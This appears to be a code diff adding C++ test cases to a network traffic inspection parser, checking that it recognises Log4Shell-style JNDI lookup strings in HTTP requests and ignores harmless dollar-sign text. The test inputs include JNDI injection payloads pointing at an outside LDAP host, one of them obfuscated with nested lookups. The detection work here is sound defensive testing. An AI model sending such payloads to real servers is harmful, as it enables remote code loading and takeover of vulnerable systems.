@@ -28,6 +28,16 @@ size_t lookups_in(const std::string& request) {
 
 }  // namespace
 
+TEST_CASE("http lookup: in the place of a method it begins a request") {
+  const auto probe = [](const std::string& text) {
+    const ParserRun run(AppId::kHttp, Transport::kTcp, 40000, 8080);
+    return run.probe({text.begin(), text.end()});
+  };
+  CHECK(probe("${jndi:ldap://203.0.113.7/a} / HTTP/1.1\r\n") == dpi::Likelihood::kLikely);
+  CHECK(probe("${HOME} is where I am\r\n") == dpi::Likelihood::kNo);
+  CHECK(probe("$GPGGA,123519,4807.038,N\r\n") == dpi::Likelihood::kNo);
+}
+
 TEST_CASE("http lookup: JNDI, plain and made of other lookups") {
   for (const char* text : {
            "${jndi:ldap://203.0.113.7/a}",
@@ -78,6 +88,7 @@ TEST_CASE("http lookup: a request is told of, once for its head and for each pie
   CHECK(lookups_in("GET / HTTP/1.1\r\nHost: a\r\nX-Any: " + lookup + "\r\n\r\n") == 1);
   CHECK(lookups_in("GET /?q=" + lookup + " HTTP/1.1\r\nHost: a\r\nA: " + lookup + "\r\n\r\n") == 1);
   CHECK(lookups_in("POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 30\r\n\r\nq=" + lookup) == 1);
+  CHECK(lookups_in("${${: :::-j}ndi:ldap://203.0.113.7/a} /a HTTP/1.1\r\nHost: a\r\n\r\n") == 1);
   CHECK(lookups_in("GET /${name} HTTP/1.1\r\nHost: a\r\n\r\n") == 0);
 }
 
